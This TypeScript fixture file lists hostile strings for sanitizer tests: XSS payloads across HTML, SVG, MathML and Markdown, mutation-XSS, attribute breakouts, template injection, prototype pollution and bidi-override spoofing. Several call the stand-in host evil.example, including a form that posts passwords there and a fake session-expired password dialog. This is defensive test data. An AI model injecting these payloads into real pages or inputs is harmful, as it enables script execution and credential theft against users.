// Texts that would do harm wherever they were taken for more than text: markup, attributes, addresses, templates.
// `evil.example` must never be asked for anything, and `alert` never be called. Plain data: the tests in Chromium read it too.

const quotes = `"'\``

/** What runs where a text becomes HTML. */
const html: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(2)</scr</script>ipt>',
  '<img src=nowhere onerror=alert(3)>',
  '<img src="https://evil.example/pixel.png">',
  '<img/src/onerror=alert(4)//',
  '<image href="https://evil.example/old.png" onerror=alert(5)>',
  '<body onload=alert(6)>',
  '<iframe src="javascript:alert(7)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(8)&lt;/script&gt;"></iframe>',
  '<object data="https://evil.example/o.swf"></object>',
  '<embed src="https://evil.example/e">',
  '<video autoplay src=https://evil.example/v.mp4 onerror=alert(9)></video>',
  '<audio src=x onerror=alert(10)>',
  '<details open ontoggle=alert(11)><summary>more</summary></details>',
  '<input autofocus onfocus=alert(12)>',
  '<select autofocus onfocus=alert(13)><option>one</option></select>',
  '<button formaction="javascript:alert(14)" form=f>Pay</button><form id=f></form>',
  '<form action="https://evil.example/steal"><input name=password><input type=submit></form>',
  '<link rel=stylesheet href="https://evil.example/s.css">',
  '<style>@import url(https://evil.example/i.css); * { background: url(https://evil.example/b.png) }</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/away">',
  '<marquee onstart=alert(15)>news</marquee>',
  '<a href="javascript:alert(16)">press me</a>',
  '<a href=https://evil.example/ping ping=https://evil.example/pong>link</a>',
  '<template><img src=x onerror=alert(17)></template>',
  '<dialog open>Your session has ended. <input type=password></dialog>',
  '<custom-element onconnected=alert(18)></custom-element>',
  '<div style="position:fixed;inset:0;background:red">over everything</div>',
  '<p id=root class=sf-surface>a second root</p>',
]

/** The same through other vocabularies. */
const foreign: readonly string[] = [
  '<svg onload=alert(20)>',
  '<svg><script>alert(21)</script></svg>',
  '<svg><script href="https://evil.example/s.js" /></svg>',
  '<svg><use href="https://evil.example/u.svg#x"></use></svg>',
  '<svg><image href="https://evil.example/i.svg" /></svg>',
  '<svg><animate onbegin=alert(22) attributeName=x dur=1s></svg>',
  '<svg><a><set attributeName=href to="javascript:alert(23)" /><text y=20>press</text></a></svg>',
  '<svg><foreignObject><iframe onload=alert(24)></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline" href="javascript:alert(25)">x</maction></math>',
  '<math href="javascript:alert(26)"><mtext>x</mtext></math>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/dtd">]><x>&e;</x>',
]

/** What a second reading turns into something else than the first. */
const mutating: readonly string[] = [
  '<math><mi><tr><style><!-- </style><i title="--><img src=no onerror=alert(30)>"></i>',
  '<noscript><p title="</noscript><img src=x onerror=alert(31)>">',
  '<svg><desc></p><style><b class="</style></svg><img src=no onerror=alert(32)>">',
  '<table><form><math><mo></form><style><p id="</style></math><img src=no onerror=alert(33)>"></table>',
  '<textarea></textarea><img src=x onerror=alert(34)></textarea>',
  '<title></title><script>alert(35)</script>',
  '<xmp></xmp><img src=x onerror=alert(36)>',
  '<!--><img src=x onerror=alert(37)>-->',
  '<![CDATA[><img src=x onerror=alert(38)>]]>',
  '&lt;img src=x onerror=alert(39)&gt;',
  '&#60;script&#62;alert(40)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;alert(41)&amp;lt;/script&amp;gt;',
  '\u003cscript>alert(42)\u003c/script>',
  '\uff1cscript\uff1ealert(43)\uff1c/script\uff1e',
  '<\u0000script>alert(44)</script>',
  'a\u0000b<im\u0000g src=x onerror=alert(45)>',
]

/** What leaves an attribute, a string or a rule in which it was put. */
const breaking: readonly string[] = [
  `${quotes}><img src=x onerror=alert(50)>`,
  `${quotes} onmouseover=alert(51) autofocus onfocus=alert(51) x=${quotes}`,
  `x${quotes} style=background:url(https://evil.example/a.png) y=${quotes}`,
  '\\";alert(52);//',
  '</script><script>alert(53)</script>',
  "');alert(54);('",
  '*/ } body { background: url(https://evil.example/c.png) } /*',
  'red;background-image:url(https://evil.example/d.png)',
  'expression(alert(55))',
  '\r\nSet-Cookie: a=b\r\n\r\n<script>alert(56)</script>',
]

/** What a template engine, a formatter or a reader of JSON might run. */
const templates: readonly string[] = [
  '${alert(60)}',
  '{{constructor.constructor("alert(61)")()}}',
  '<%= alert(62) %>',
  '#{alert(63)}',
  '[[${alert(64)}]]',
  "${openUrl(url: 'https://evil.example/auto')}",
  '{"call":"openUrl","args":{"url":"https://evil.example/auto"}}',
  '{"__proto__":{"polluted":true}}',
  '__proto__',
  'constructor.prototype.polluted',
]

/** What Markdown could make of a text. */
const markdown: readonly string[] = [
  '![pixel](https://evil.example/md.png)',
  '![pixel][ref]\n\n[ref]: https://evil.example/ref.png',
  '[![press](https://evil.example/in-link.png)](javascript:alert(70))',
  '[press](javascript:alert(71))',
  '[press](JaVaScRiPt&colon;alert(72))',
  '[press](java&#10;script:alert(73))',
  '[press](<javascript:alert(74)>)',
  '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCg3NSk8L3NjcmlwdD4=)',
  '[press](vbscript:alert(76))',
  '[press]( \u0001javascript:alert(77))',
  '[press](//evil.example/relative)',
  '[press](https://me@evil.example/)',
  '<javascript:alert(78)>',
  '[a]: javascript:alert(79)\n\n[a]',
  '`<img src=x onerror=alert(80)>`',
  '```\n</code></pre><img src=x onerror=alert(81)>\n```',
  '> <img src=x onerror=alert(82)>',
  '- <svg onload=alert(83)>',
  '[x](https://good.example/"onmouseover="alert(84))',
  '[x](https://good.example "title\\" onmouseover=\\"alert(85)")',
  '![" onerror="alert(86)](x)',
]

export const hostileTexts: readonly string[] = [
  ...html,
  ...foreign,
  ...mutating,
  ...breaking,
  ...templates,
  ...markdown,
]

/** The signs that turn the direction of writing, each as it would be used, and closed where it should not be. */
export const turningTexts: readonly string[] = [
  'invoice\u202Egnp.exe',
  'see https://good.example/\u202Egnp.exe',
  '\u202Dabc\u202Edef',
  '\u2066unclosed',
  '\u2067unclosed',
  '\u2068unclosed \u202E',
  'out\u2069\u202E of the isolate',
  '\u2069\u2069\u2069\u202E\u202Btwice',
  'סוכן\u2069\u202E',
]
